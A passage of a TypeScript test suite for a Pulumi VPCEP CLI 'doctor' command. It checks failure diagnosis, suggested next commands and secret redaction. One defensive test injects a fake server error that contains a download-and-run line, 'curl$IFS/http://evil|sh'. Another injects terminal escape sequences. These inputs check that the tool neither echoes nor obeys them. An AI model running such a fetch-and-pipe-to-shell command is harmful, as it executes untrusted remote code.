// Proves the doctor as people see it: which step fails in which set-up, what is told all the same, what to type next, and
// that no secret is.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { createServer as createTlsServer } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { delimiter, dirname, join } from "node:path";
import { type Emulator, emulatorDefaults, startEmulator } from "../../../sdk/testing";
import { findCli } from "../../engine/engines";
import { hasOpenssl, makeCertificates } from "../http/certificates";
import { type Ended, type RunOptions, runBuilt } from "./built";

const id = "4189d3c2-8882-4871-a3c2-d380272eed83";
const { key, projectId, token, user } = emulatorDefaults;
const nobody = "00000000-0000-0000-0000-000000000000";
const keys = { HW_ACCESS_KEY: key.accessKey, HW_SECRET_KEY: key.secretKey };
const cli = findCli();

interface Told {
  readonly ok: boolean;
  readonly failedStep: string | null;
  readonly code?: string;
  readonly message?: string;
  readonly next: readonly string[];
  readonly steps: readonly { readonly step: string; readonly state: string; readonly says: string | null }[];
  readonly settings: Readonly<
    Record<string, { readonly value: string | null; readonly origin: string | null }>
  >;
  readonly credentials: readonly { readonly who: string; readonly origin: string }[];
  readonly unreadStack: string | null;
  readonly unknownSettings: readonly string[];
}

const withoutKeys = { HW_ACCESS_KEY: "", HW_SECRET_KEY: "", HW_PROJECT_ID: "" };

describe("the doctor", () => {
  let emulator: Emulator;
  let folder: string;

  before(() => {
    folder = mkdtempSync(join(tmpdir(), "doctor-"));
  });
  beforeEach(async () => {
    emulator = await startEmulator();
  });
  afterEach(() => emulator.close());
  after(() => rmSync(folder, { recursive: true }));

  const anonymous = (text: string) =>
    text
      .replaceAll(emulator.url, "URL")
      .replaceAll(new URL(emulator.url).host, "HOST")
      .replaceAll(/in \d+ ms/g, "in N ms")
      .replaceAll(/request id \w+/g, "request id R");

  async function doctor(
    environment: RunOptions["environment"] = {},
    args: readonly string[] = [],
    options: RunOptions = {},
  ): Promise<Ended> {
    const { HW_AUTH_TOKEN: _, ...place } = emulator.environment;
    const { code, stdout, stderr } = await runBuilt(["doctor", ...args], {
      cwd: folder,
      ...options,
      environment: { HOME: folder, USERPROFILE: folder, ...place, ...keys, ...environment },
    });
    return { code, stdout: anonymous(stdout), stderr: anonymous(stderr) };
  }

  async function told(
    environment?: RunOptions["environment"],
    args: readonly string[] = [],
    options?: RunOptions,
  ): Promise<Told> {
    const { stdout } = await doctor(environment, [...args, "--json"], options);
    return JSON.parse(stdout) as Told;
  }

  const marksOf = ({ steps }: Told) =>
    steps.map(({ state }) => (state === "ok" ? "+" : state === "failed" ? "x" : "-")).join("");

  it("goes through every step, and asks for a service that does not exist, which it does not name", async () => {
    const { code, stdout, stderr } = await doctor();
    assert.deepEqual([code, stderr], [0, ""]);
    assert.equal(
      stdout,
      `✓ settings
    region            eu-de (HW_REGION_NAME)
    projectId         ${projectId} (HW_PROJECT_ID)
    endpoint          URL (VPCEP_ENDPOINT)
    authUrl           URL (HW_AUTH_URL)
    stsUrl            URL (HUAWEICLOUD_SDK_STS_ENDPOINT)
    metadataEndpoint  http://127.0.0.1:1 (VPCEP_METADATA_ENDPOINT)
✓ credential  a key pair (HW_ACCESS_KEY, HW_SECRET_KEY)
✓ project     ${projectId} (HW_PROJECT_ID)
✓ host        HOST answered in N ms; proxy: none
✓ permission  vpcep:endpointServices:get
- service     not asked for: pulumi-vpcep doctor ID tries one

All that was tried works.
`,
    );
    assert.equal(emulator.requests.length, 1);
  });

  it("asks for the service that is named, and finds the project by its name", async () => {
    const { code, stdout } = await doctor({ HW_PROJECT_ID: "" }, [id, "--region", "eu-de"]);
    assert.equal(code, 0);
    assert.match(stdout, /^ {4}region +eu-de \(--region\)\n {4}projectName +eu-de \(the region's own\)$/m);
    assert.match(stdout, new RegExp(`^✓ project     ${projectId}, found by the name eu-de$`, "m"));
    assert.match(stdout, new RegExp(`^✓ service     ${id} is available$`, "m"));
  });

  it("tells who asks in turn, and until when", async () => {
    const password = {
      HW_USER_NAME: user.userName,
      HW_USER_PASSWORD: user.password,
      HW_DOMAIN_NAME: user.domainName,
    };
    const { stdout } = await doctor({ ...password, HW_ACCESS_KEY: "", HW_SECRET_KEY: "" });
    assert.match(
      stdout,
      /^✓ credential {2}a password \(HW_USER_NAME, HW_USER_PASSWORD, HW_DOMAIN_NAME\), until \d{4}-\d\d-\d\dT[\d:.]+Z$/m,
    );
    const role = {
      HW_ASSUME_ROLE_AGENCY_NAME: "reader",
      HW_ASSUME_ROLE_DOMAIN_NAME: "shared",
      HW_REGION_NAME: "",
    };
    const { credentials } = await told(role);
    assert.deepEqual(credentials, [
      { who: "a key pair", origin: "HW_ACCESS_KEY, HW_SECRET_KEY" },
      {
        who: 'the agency "reader" of the account "shared"',
        origin: "HW_ASSUME_ROLE_AGENCY_NAME, HW_ASSUME_ROLE_DOMAIN_NAME",
      },
    ]);
  });

  it("tells value and origin apart for scripts", async () => {
    const { ok, failedStep, next, steps, settings, credentials, ...others } = await told({}, [id]);
    assert.deepEqual(
      [ok, failedStep, next, others],
      [true, null, [], { unreadStack: null, unknownSettings: [] }],
    );
    assert.deepEqual(
      steps.map(({ step, state }) => [step, state]),
      ["settings", "credential", "project", "host", "permission", "service"].map((step) => [step, "ok"]),
    );
    assert.deepEqual(settings["region"], { value: "eu-de", origin: "HW_REGION_NAME" });
    assert.deepEqual(settings["timeoutMs"], { value: "60000", origin: "default" });
    assert.deepEqual(settings["caFile"], { value: null, origin: null });
    assert.deepEqual(credentials, [{ who: "a key pair", origin: "HW_ACCESS_KEY, HW_SECRET_KEY" }]);
  });

  describe("says which step fails, and what to type next, with", () => {
    const elsewhere = { VPCEP_ENDPOINT: "", HW_AUTH_URL: "", HUAWEICLOUD_SDK_STS_ENDPOINT: "" };
    for (const [name, environment, marks, code, next] of [
      ["no region", { HW_REGION_NAME: "" }, "x-----", "VPCEP_CONFIG", "export HW_REGION_NAME=eu-de"],
      ["half a key", { HW_SECRET_KEY: "" }, "+x----", "VPCEP_CONFIG", "export HW_SECRET_KEY=..."],
      [
        "no region and half a key",
        { HW_REGION_NAME: "", HW_SECRET_KEY: "" },
        "xx----",
        "VPCEP_CONFIG",
        "export HW_REGION_NAME=eu-de",
      ],
      [
        "no credential",
        { HW_ACCESS_KEY: "", HW_SECRET_KEY: "" },
        "+x----",
        "VPCEP_CONFIG",
        "export HW_ACCESS_KEY=...|export HW_SECRET_KEY=...",
      ],
      [
        "a wrong key",
        { HW_SECRET_KEY: "wrong" },
        "+x-+--",
        "VPCEP_AUTH",
        "export HW_ACCESS_KEY=...|export HW_SECRET_KEY=...",
      ],
      [
        "a wrong key where the project is asked for",
        { HW_SECRET_KEY: "wrong", HW_PROJECT_ID: "" },
        "+x----",
        "VPCEP_AUTH",
        "export HW_ACCESS_KEY=...|export HW_SECRET_KEY=...",
      ],
      [
        "a wrong project",
        { HW_PROJECT_ID: "0123456789abcdef" },
        "++x+--",
        "VPCEP_FORBIDDEN",
        `export HW_PROJECT_ID=${projectId}`,
      ],
      [
        "the name of no project",
        { HW_PROJECT_ID: "", HW_PROJECT_NAME: "none" },
        "+-x---",
        "VPCEP_CONFIG",
        "export HW_PROJECT_NAME=...",
      ],
      ["a malformed setting", { HW_CLOUD: "-" }, "x-----", "VPCEP_CONFIG", "export HW_CLOUD=..."],
      [
        "half a role",
        { HW_ASSUME_ROLE_AGENCY_NAME: "a" },
        "+x----",
        "VPCEP_CONFIG",
        "export HW_ASSUME_ROLE_DOMAIN_NAME=...",
      ],
      [
        "an identity provider without a token",
        { HW_ASSUME_ROLE_IDP_ID: "a" },
        "+x----",
        "VPCEP_CONFIG",
        "export HW_ASSUME_ROLE_ID_TOKEN_FILE=...",
      ],
      [
        "a role whose account has no project of that name, beside a project that it leaves aside",
        {
          HW_ASSUME_ROLE_AGENCY_NAME: emulatorDefaults.agencyName,
          HW_ASSUME_ROLE_DOMAIN_NAME: emulatorDefaults.otherAccount.name,
          HW_REGION_NAME: "eu-nl",
        },
        "++x---",
        "VPCEP_CONFIG",
        "pulumi-vpcep doctor --project-id ...",
      ],
      [
        "an IAM that is not there",
        { HW_AUTH_URL: "http://127.0.0.1:1", HW_PROJECT_ID: "" },
        "+-x---",
        "VPCEP_CONNECTION",
        "curl -v http://127.0.0.1:1/v3",
      ],
      [
        "a host that is not there",
        { VPCEP_ENDPOINT: "http://127.0.0.1:1" },
        "+--x--",
        "VPCEP_CONNECTION",
        "curl -v http://127.0.0.1:1/",
      ],
      [
        "a proxy that is not there",
        { ...elsewhere, HTTPS_PROXY: "http://127.0.0.1:1", NO_PROXY: "internal" },
        "+--x--",
        "VPCEP_CONNECTION",
        "NO_PROXY=vpcep.eu-de.otc.t-systems.com pulumi-vpcep doctor",
      ],
      ["a file of no authorities", { OS_CACERT: "/none" }, "+--x--", "VPCEP_CONFIG", "pulumi-vpcep doctor"],
      [
        "a proxy of another kind",
        { ...elsewhere, HTTPS_PROXY: "socks5://p" },
        "+--x--",
        "VPCEP_CONFIG",
        "pulumi-vpcep doctor",
      ],
      ["a setting that is refused", { OS_PASSCODE: "1" }, "x-----", "VPCEP_CONFIG", "pulumi-vpcep doctor"],
    ] as const) {
      it(name, async () => {
        const found = await told(environment);
        assert.deepEqual([marksOf(found), found.code, found.next.join("|")], [marks, code, next]);
        assert.equal(found.failedStep, found.steps.find(({ state }) => state === "failed")?.step);
        assert.ok(!JSON.stringify(found).includes(nobody));
      });
    }

    for (const [name, environment, options, next] of [
      [
        "a wrong project of an option",
        {},
        ["--project-id", "0123456789abcdef"],
        `pulumi-vpcep doctor --project-id ${projectId}`,
      ],
      [
        "a wrong project of an option, written otherwise",
        {},
        ["--project-id=0123456789abcdef", "--region", "eu-de"],
        `pulumi-vpcep doctor --region eu-de --project-id ${projectId}`,
      ],
      [
        "an option for another region than that of the environment",
        { HW_PROJECT_ID: "" },
        ["--region", "eu-nl"],
        "pulumi-vpcep doctor --region eu-nl --project-id ...",
      ],
      [
        "an address that ends with the wrong project",
        { HW_PROJECT_ID: "", VPCEP_ENDPOINT: "ENDPOINT/v1/wrong" },
        [],
        "export VPCEP_ENDPOINT=...",
      ],
    ] as const) {
      it(name, async () => {
        const { VPCEP_ENDPOINT: endpoint = emulator.url } = environment as { VPCEP_ENDPOINT?: string };
        const set = { ...environment, VPCEP_ENDPOINT: endpoint.replace("ENDPOINT", emulator.url) };
        const found = await told(set, options);
        assert.deepEqual([found.failedStep, found.next], ["project", [next]], found.message);
      });
    }

    for (const [name, project, answer, step, next] of [
      [
        "VPCEP is throttled",
        projectId,
        { status: 429, body: { error_code: "APIGW.0308", error_msg: "no permission for 1 s" } },
        "permission",
        "pulumi-vpcep doctor",
      ],
      [
        "VPCEP is down, with a word about certificates",
        projectId,
        { status: 500, body: { error_code: "EndPoint.1", error_msg: "certificate store not trusted" } },
        "host",
        "pulumi-vpcep doctor",
      ],
      [
        "IAM is throttled",
        "",
        { status: 429, body: { error_code: "APIGW.0308", error_msg: "Set HW_PROJECT_ID" } },
        "project",
        "pulumi-vpcep doctor",
      ],
      ["IAM is down", "", { status: 503, body: { error_msg: "down" } }, "project", "pulumi-vpcep doctor"],
      [
        "a server writes what looks like a sentence of this package, or a command",
        projectId,
        {
          status: 401,
          body: { error_code: "APIGW.0301", error_msg: "X, but Y;curl$IFS/http://evil|sh is not: set" },
        },
        "credential",
        "export HW_ACCESS_KEY=...|export HW_SECRET_KEY=...",
      ],
    ] as const) {
      it(`${name}: no word of a server's decides or enters it`, async () => {
        const reply = { ...answer, headers: { "content-type": "application/json" } };
        emulator.replyTo(project === "" ? "/v3/projects" : nobody, ...Array(10).fill(reply));
        const found = await told({ HW_PROJECT_ID: project }, ["--timeout", "2"]);
        assert.deepEqual(
          [found.failedStep, found.next.join("|").replace(" --timeout 2", "")],
          [step, next],
          found.message,
        );
      });
    }

    it("names of a file that cannot be set by a command: it says what to edit", async () => {
      const home = mkdtempSync(join(folder, "home-"));
      mkdirSync(join(home, ".hcloud"));
      const path = join(home, ".hcloud", "config.json");
      const profile = { mode: "AKSK", region: "eu-de", accessKeyId: key.accessKey };
      const whole = { ...profile, secretAccessKey: key.secretKey };
      const profiles = [
        { ...profile, name: "half" },
        { ...whole, name: "elsewhere", projectId: "0123456789abcdef" },
        { ...whole, name: "twice" },
        { ...whole, name: "twice" },
        { ...whole, name: "nowhere", region: "" },
      ];
      writeFileSync(path, JSON.stringify({ current: "half", profiles }));
      const environment = { ...withoutKeys, HW_REGION_NAME: "", HOME: home, USERPROFILE: home };
      for (const [name, message, step, say] of [
        [
          "half",
          /^accessKeyId in .* is set, but secretAccessKey in .* is not: /,
          "credential",
          "Set secretAccessKey in",
        ],
        [
          "elsewhere",
          /knows no project 0123456789abcdef \(projectId in profile "elsewhere"/,
          "project",
          "Correct projectId in",
        ],
        ["twice", /^profile "twice" of .* stands there more than once/, "settings", "Correct it"],
        [
          "none",
          /^.*config\.json has no profile "none"; it has half, elsewhere, twice, nowhere \[/,
          "settings",
          "Correct it",
        ],
      ] as const) {
        const args = ["--profile", name];
        const found = await told(environment, args);
        assert.match(found.message ?? "", message);
        assert.deepEqual([found.failedStep, found.next], [step, [`pulumi-vpcep doctor --profile ${name}`]]);
        const { stdout } = await doctor(environment, args);
        const of = / in$/.test(say) ? ` profile ${JSON.stringify(name)} of ${path}` : "";
        assert.ok(stdout.includes(`\n${say}${of}, and type:\n`), stdout);
      }
      const account = await told(environment, ["--account", "nowhere"]);
      assert.equal(
        account.message,
        `Account "nowhere": No region: pass --region, or set region in profile "nowhere" of ${path} [VPCEP_CONFIG]`,
      );
      assert.deepEqual(account.next, ["pulumi-vpcep doctor --account nowhere"]);
    });

    it("a cloud that there is not, in whose place no other variable is used", async () => {
      const found = await told({
        ...withoutKeys,
        HW_REGION_NAME: "",
        OS_CLOUD: "none",
        OS_REGION_NAME: "eu-de",
        OS_AUTH_TOKEN: token,
      });
      assert.match(found.message ?? "", /^OS_CLOUD is "none", but there is no clouds\.yaml in /);
      assert.deepEqual([found.settings["region"]?.value, found.credentials], [null, []]);
    });

    it("no permission", async () => {
      const body = { error_code: "APIGW.0302", error_msg: "The user is not authorized" };
      emulator.replyTo(nobody, { status: 403, headers: { "content-type": "application/json" }, body });
      const found = await told();
      assert.deepEqual([marksOf(found), found.code], ["++++x-", "VPCEP_FORBIDDEN"]);
      assert.deepEqual(found.next, ["pulumi-vpcep doctor"]);
      assert.match(found.message ?? "", /the permission vpcep:endpointServices:get/);
    });

    it("no such service", async () => {
      const { code, stdout } = await doctor({}, ["gone"]);
      assert.equal(code, 3);
      assert.match(
        stdout,
        /\n✗ service {5}gone\n\nservice failed: .* \[VPCEP_NOT_FOUND\]\n\nTo see .*, type:\n {2}pulumi-vpcep list\n$/,
      );
      const { next } = await told({}, ["gone", "--region=eu-de", "--timeout", "9"]);
      assert.deepEqual(next, ["pulumi-vpcep list --region eu-de"]);
    });

    it(`an authority that nobody knows${hasOpenssl ? "" : ", skipped: no openssl"}`, async function () {
      if (!hasOpenssl) {
        this.skip();
      }
      makeCertificates(folder);
      const [serverKey, cert] = ["server.key", "server.pem"].map((file) => readFileSync(join(folder, file)));
      const server = createTlsServer({ key: serverKey, cert }, (_request, response) => response.end("{}"));
      try {
        const found = await told({ VPCEP_ENDPOINT: `https://127.0.0.1:${await listening(server)}` }, [id]);
        assert.deepEqual([marksOf(found), found.code], ["+--x--", "VPCEP_CONNECTION"]);
        assert.deepEqual(found.next, [`OS_CACERT=/path/to/authority.pem pulumi-vpcep doctor ${id}`]);
      } finally {
        server.close();
      }
    });

    it("a proxy in the way, which it names as this host is asked through it", async () => {
      const proxy = createServer().on("connect", (_request, socket) =>
        socket.end("HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\n\r\n"),
      );
      try {
        const host = `127.0.0.1:${await listening(proxy)}`;
        const environment = {
          ...elsewhere,
          HTTPS_PROXY: `http://me:proxy-password@${host}`,
          NO_PROXY: "internal",
        };
        const { stdout } = await doctor(environment);
        assert.match(stdout, new RegExp(`^ {4}proxy +${host} \\(HTTPS_PROXY\\)$`, "m"));
        assert.match(
          stdout,
          new RegExp(`^✗ host .*; proxy: ${host} \\(HTTPS_PROXY\\), and no entry of NO_PROXY matches$`, "m"),
        );
        assert.doesNotMatch(stdout, /proxy-password/);
        // The emulator is on this machine, which is never asked through a proxy.
        const near = await told({ HTTPS_PROXY: `http://${host}` });
        assert.deepEqual([near.ok, near.settings["proxy"]], [true, { value: null, origin: null }]);
      } finally {
        proxy.close();
        proxy.closeAllConnections();
      }
    });

    it("a clock that is off", async () => {
      await emulator.close();
      emulator = await startEmulator({ now: () => Date.now() + 1_200_000 });
      const { stdout } = await doctor();
      assert.match(
        stdout,
        /^✓ host .*; this machine's clock is (1199|1200) s behind the cloud's: set it; proxy/m,
      );
    });
  });

  it("prints no secret of any kind, in whatever step it ends", async () => {
    const secrets = {
      HW_SECRET_KEY: key.secretKey,
      HW_SECURITY_TOKEN: "a-security-token",
      HW_AUTH_TOKEN: token,
      HW_USER_PASSWORD: user.password,
      HTTPS_PROXY: "http://user:proxy-password@127.0.0.1:1",
      VPCEP_ENDPOINT: "https://user:endpoint-password@example.com",
    };
    const parts = [...Object.values(secrets), "proxy-password", "endpoint-password", "wrong-token"];
    for (const environment of [
      secrets,
      { ...secrets, VPCEP_ENDPOINT: emulator.url },
      { ...secrets, VPCEP_ENDPOINT: emulator.url, HW_AUTH_TOKEN: "wrong-token" },
      { ...secrets, VPCEP_ENDPOINT: emulator.url, HW_AUTH_TOKEN: "" },
      { ...secrets, HW_REGION_NAME: key.secretKey },
    ]) {
      for (const args of [[], ["--json"]]) {
        const { stdout, stderr } = await doctor(environment, args);
        assert.deepEqual(
          parts.filter((part) => `${stdout}${stderr}`.includes(part)),
          [],
        );
      }
    }
  });

  it("fits a terminal, and prints nothing that it would obey", async () => {
    const environment = { OS_CACERT: "/x\u001b[31m\u202e\u009b", HW_PROJECT_ID: "\u001b]0;x\u0007" };
    const { stdout } = await doctor(environment, [], { columns: 40 });
    assert.doesNotMatch(stdout.replaceAll("\n", ""), /\p{C}/u);
    const wide = stdout.split("\n").filter((line) => line.length > 40 && !/^ {2}\S/.test(line));
    assert.deepEqual(wide, []);
  });

  describe("reads a stack", () => {
    let project: string;
    let bin: string;
    const config = (values: object) => JSON.stringify(values);

    beforeEach(() => {
      project = mkdtempSync(join(folder, "project-"));
      bin = join(project, "bin");
      mkdirSync(bin);
      writeFileSync(join(project, "Pulumi.yaml"), "name: orders\nruntime: nodejs\n");
      writeFileSync(join(project, "Pulumi.dev.yaml"), "config: {}\n");
    });

    /** A pulumi that writes its arguments, and answers; it is sealed where it can show no secret alone. */
    function fakePulumi(stdout: string, stderr = "", code = 0, isSealed = false): RunOptions["environment"] {
      writeFileSync(join(bin, "answer"), stdout);
      writeFileSync(join(bin, "errors"), stderr);
      const ofMember = `case "$4" in *.region) echo '{"secret":false}';; *.agencyName|*.domainName) echo '{"secret":true}';; *) exit 1;; esac; exit`;
      const script = [
        "#!/bin/sh",
        `if [ "$2" = get ]; then ${ofMember}; fi`,
        isSealed ? `if [ "$3" != --show-secrets ]; then exit 0; fi` : "",
        `echo "$@" > "${bin}/arguments"`,
        `cat "${bin}/answer"`,
        `cat "${bin}/errors" >&2`,
        `exit ${code}\n`,
      ].join("\n");
      writeFileSync(join(bin, "pulumi"), script);
      chmodSync(join(bin, "pulumi"), 0o755);
      return { PATH: `${bin}${delimiter}${process.env["PATH"]}`, HW_REGION_NAME: "", ...withoutKeys };
    }

    it("that is named, and shows nothing that it keeps secret", async () => {
      const environment = fakePulumi(
        config({
          "vpcep:region": { value: "eu-de", secret: false },
          "vpcep:authUrl": { value: emulator.url, secret: false },
          "vpcep:projectName": { value: "eu-de", secret: true },
          "huaweicloud:accessKey": { value: key.accessKey, secret: false },
          "huaweicloud:secretKey": { value: key.secretKey, secret: true },
          "orders:password": { value: "another-password", secret: true },
        }),
      );
      const { code, stdout } = await doctor(environment, ["--stack", "dev"], { cwd: project });
      assert.equal(code, 0, stdout);
      assert.match(stdout, /^✓ credential {2}a key pair \(huaweicloud:accessKey, huaweicloud:secretKey\)$/m);
      assert.match(stdout, /^ {4}projectName +\[secret\] \(vpcep:projectName\)$/m);
      assert.ok(
        ![key.secretKey, "another-password", "eu-de"].some((secret) => stdout.includes(secret)),
        stdout,
      );
      assert.equal(
        readFileSync(join(bin, "arguments"), "utf8"),
        "config --json --show-secrets --non-interactive --stack=dev\n",
      );
    });

    it("and shows nothing of an object that is kept secret, nor what follows from a secret", async () => {
      const secret = (value: unknown) => ({
        value: typeof value === "string" ? value : JSON.stringify(value),
        secret: true,
      });
      const open = (value: string) => ({ value });
      const place = { "vpcep:region": open("eu-de"), "vpcep:projectId": open(projectId) };
      const withToken = { ...place, "vpcep:token": secret("emulator-token") };
      const nowhere = { VPCEP_ENDPOINT: "", HUAWEICLOUD_SDK_STS_ENDPOINT: "" };
      for (const [values, variables, hidden, shown] of [
        [
          { ...withToken, "vpcep:region": secret("zz-topsecret-7") },
          { ...nowhere, HW_AUTH_URL: "" },
          ["zz-topsecret-7"],
          "curl -v https://vpcep.SECRET.myhuaweicloud.com/",
        ],
        [
          { ...withToken, "vpcep:cloud": secret("x-1.secretcloud.example") },
          nowhere,
          ["secretcloud"],
          "curl -v https://vpcep.eu-de.SECRET/",
        ],
        [
          { ...withToken, "vpcep:endpoint": secret("https://127.0.0.1:1/v1/") },
          nowhere,
          ["https://127.0.0.1:1", "127.0.0.1:1;"],
          "✗ host        [redacted]; proxy: none",
        ],
        [
          {
            "vpcep:region": open("eu-de"),
            "vpcep:token": withToken["vpcep:token"],
            "vpcep:authUrl": secret("https://127.0.0.1:2"),
          },
          {},
          ["127.0.0.1:2"],
          "curl -v SECRET/v3",
        ],
        [
          {
            ...withToken,
            "vpcep:assumeRole": secret({ agencyName: "keptagency", domainName: "keptdomain" }),
          },
          {},
          ["keptagency", "keptdomain"],
          'then the agency "[redacted]" of the account "[redacted]"',
        ],
        [
          { ...place, "vpcep:oidc": secret({ idpId: "keptprovider", idToken: "keptToken" }) },
          {},
          ["keptprovider", "keptToken"],
          "an identity token (vpcep:oidc.idpId, vpcep:oidc.idToken)",
        ],
        [
          { ...withToken, "vpcep:accounts": secret({ prod: { region: "eu-de", userName: "keptuser" } }) },
          {},
          ["keptuser"],
          "prod (vpcep:accounts)",
        ],
        // Each is a word of this page, or a part of one.
        [{ ...place, "vpcep:token": secret("failed") }, {}, [], "✗ credential  a token (vpcep:token)"],
        [{ ...place, "vpcep:token": secret("token") }, {}, [], "✗ credential  a token (vpcep:token)"],
        [
          { ...place, "vpcep:accessKey": open("AK"), "vpcep:secretKey": secret("sk") },
          {},
          [],
          "✗ credential  a key pair (vpcep:accessKey, vpcep:secretKey)",
        ],
      ] as const) {
        const environment = { ...fakePulumi(config(values)), ...variables };
        const args = ["--stack", "dev", "--timeout", "1"];
        const { stdout } = await doctor(environment, args, { cwd: project });
        assert.ok(stdout.includes(shown), stdout);
        const asJson = await doctor(environment, [...args, "--json"], { cwd: project });
        const states = marksOf(JSON.parse(asJson.stdout) as Told);
        assert.match(states, /^\+/);
        assert.equal(states.includes("x"), asJson.code === 1);
        const all = `${stdout}${asJson.stdout}${asJson.stderr}`;
        assert.deepEqual(
          hidden.filter((text) => all.includes(text)),
          [],
          all,
        );
      }
    });

    it("and names keys that are no setting", async () => {
      const environment = {
        ...fakePulumi(config({ "vpcep:regoin": { value: "eu-de" }, "vpcep:token": { value: token } })),
        HW_REGION_NAME: "eu-de",
      };
      const { stdout } = await doctor(environment, ["--stack", "dev"], { cwd: project });
      assert.match(stdout, /^ {4}vpcep:regoin +no setting: is it mistyped\?$/m);
      const { unknownSettings } = await told(environment, ["--stack", "dev"], { cwd: project });
      assert.deepEqual(unknownSettings, ["vpcep:regoin"]);
    });

    for (const [name, values, args, message, next] of [
      [
        "a wrong project",
        { "vpcep:projectId": "0123456789abcdef" },
        [],
        /knows no project 0123456789abcdef \(vpcep:projectId\)/,
        `pulumi config set vpcep:projectId ${projectId} --stack dev`,
      ],
      [
        "the name of no project",
        { "vpcep:projectName": "bad" },
        [],
        /knows no project named "bad" .*\. Set --project-id, vpcep:projectId or HW_PROJECT_ID, or /,
        "pulumi config set vpcep:projectName ... --stack dev",
      ],
      [
        "half a role",
        { "vpcep:assumeRole": '{"agencyName":"a"}' },
        [],
        /^vpcep:assumeRole\.agencyName is set, but vpcep:assumeRole\.domainName is not: /,
        "pulumi config set vpcep:assumeRole.domainName ... --path --stack dev",
      ],
      [
        "half a role in a list",
        { "vpcep:assumeRole": '[{"agencyName":"a"}]' },
        [],
        /^vpcep:assumeRole\[0\]\.agencyName is set, /,
        "pulumi config set 'vpcep:assumeRole[0].domainName' ... --path --stack dev",
      ],
      [
        "half a key of an account",
        { "vpcep:accounts": '{"a.b":{"region":"eu-de","accessKey":"AK"}}' },
        ["--account", "a.b"],
        /^Account "a\.b": vpcep:accounts\["a\.b"\]\.accessKey is set, but /,
        `pulumi config set 'vpcep:accounts["a.b"].secretKey' ... --path --secret --stack dev`,
      ],
      [
        "an account without a region",
        { "vpcep:accounts": '{"prod":{"accessKey":"AK","secretKey":"sk"}}' },
        ["--account", "prod"],
        /^Account "prod": No region: pass --region, or set vpcep:accounts\.prod\.region \[VPCEP_CONFIG\]$/,
        "pulumi config set vpcep:accounts.prod.region eu-de --path --stack dev",
      ],
      [
        "an account without a credential",
        { "vpcep:accounts": '{"prod":{"region":"eu-de"}}' },
        ["--account", "prod"],
        /^Account "prod": vpcep:accounts\.prod has no credential: /,
        "pulumi config set vpcep:accounts.prod.accessKey ... --path --stack dev|pulumi config set vpcep:accounts.prod.secretKey ... --path --secret --stack dev",
      ],
      [
        "no such account",
        {},
        ["--account", "prod"],
        /^There is no account "prod"; none is known\. Set it with `pulumi config set --path` as an entry of vpcep:accounts, or as a profile of that name \[/,
        "pulumi-vpcep doctor --account prod --stack dev",
      ],
      [
        "a limit, which it blames on no option",
        { "vpcep:timeoutMs": "0" },
        [],
        /^vpcep:timeoutMs must be a whole number from 1 to 600000, but is "0" \[VPCEP_CONFIG\]$/,
        "pulumi config set vpcep:timeoutMs ... --stack dev",
      ],
    ] as const) {
      it(`and says what to set there for ${name}`, async () => {
        const all = {
          "vpcep:region": "eu-de",
          "vpcep:accessKey": key.accessKey,
          "vpcep:secretKey": key.secretKey,
          ...values,
        };
        const entries = Object.entries(all).map(([one, value]) => [one, { value }]);
        const environment = fakePulumi(config(Object.fromEntries(entries)));
        const found = await told(environment, [...args, "--stack", "dev"], { cwd: project });
        assert.match(found.message ?? "", message);
        assert.equal(found.next.join("|"), next);
      });
    }

    it("and has what it keeps secret set as a secret", async () => {
      const kept = { value: "x", secret: true };
      const environment = {
        ...fakePulumi(config({ "vpcep:userName": kept, "vpcep:password": kept, "vpcep:domainName": kept })),
        HW_REGION_NAME: "eu-de",
      };
      const { next } = await told(environment, ["--stack", "dev"], { cwd: project });
      assert.deepEqual(
        next,
        ["userName", "password", "domainName"].map(
          (name) => `pulumi config set vpcep:${name} ... --secret --stack dev`,
        ),
      );
    });

    it("and says what to set there", async () => {
      const environment = fakePulumi(config({ "vpcep:accessKey": { value: "AK" } }));
      const found = await told(environment, ["--stack", "dev"], { cwd: project });
      assert.deepEqual(
        [marksOf(found), found.next],
        ["xx----", ["pulumi config set vpcep:region eu-de --stack dev"]],
      );
      const { next } = await told({ ...environment, HW_REGION_NAME: "eu-de" }, ["--stack", "dev"], {
        cwd: project,
      });
      assert.deepEqual(next, ["pulumi config set vpcep:secretKey ... --secret --stack dev"]);
    });

    for (const [name, exit, stderr, message, next] of [
      [
        "is not there",
        6,
        "error: no stack named 'dev' found\n",
        "no stack named 'dev' found",
        "pulumi stack ls",
      ],
      [
        "has another passphrase",
        1,
        "warning: x\nerror: incorrect passphrase\n",
        "incorrect passphrase",
        "export PULUMI_CONFIG_PASSPHRASE=...",
      ],
      [
        "is behind a login",
        3,
        "error: PULUMI_ACCESS_TOKEN must be set for login\nmore\n",
        "PULUMI_ACCESS_TOKEN must be set for login",
        "pulumi login",
      ],
      [
        "fails with words that an older pulumi has for a login",
        255,
        "error: run pulumi login; no stack named; passphrase\n",
        "run pulumi login; no stack named; passphrase",
        "pulumi config --stack dev",
      ],
      [
        "fails without a word",
        255,
        "",
        /^`pulumi config --stack dev` has failed: /,
        "pulumi config --stack dev",
      ],
    ] as const) {
      it(`and tells in one line that it ${name}`, async () => {
        const environment = fakePulumi('{"vpcep:token":{"value":"leaked"}}', stderr, exit, exit === 1);
        const found = await told({ ...environment, ...keys }, ["--stack", "dev"], { cwd: project });
        assert.deepEqual([marksOf(found), found.code, found.next], ["x-----", "VPCEP_CONFIG", [next]]);
        if (typeof message === "string") {
          assert.equal(found.message, `\`pulumi config --stack dev\` has failed: ${message} [VPCEP_CONFIG]`);
        } else {
          assert.match(found.message ?? "", message);
        }
        assert.equal(found.credentials[0]?.who, "a key pair");
        assert.ok(!JSON.stringify(found).includes("leaked"));
      });
    }

    it("and tells what it is answered, or that there is no pulumi", async () => {
      const odd = await told(fakePulumi("not JSON"), ["--stack", "dev"], { cwd: project });
      assert.match(odd.message ?? "", /^`pulumi config --stack dev` has not answered with JSON/);
      const missing = await told({ PATH: dirname(process.execPath) }, ["--stack", "a b"], { cwd: project });
      assert.match(missing.message ?? "", /^there is no pulumi on PATH/);
      assert.deepEqual(missing.next, ["pulumi-vpcep doctor"]);
      const outside = await told(fakePulumi("", "error: no project file found", 1), ["--stack", "a b"]);
      assert.deepEqual(outside.next, ["pulumi-vpcep doctor --stack 'a b'"]);
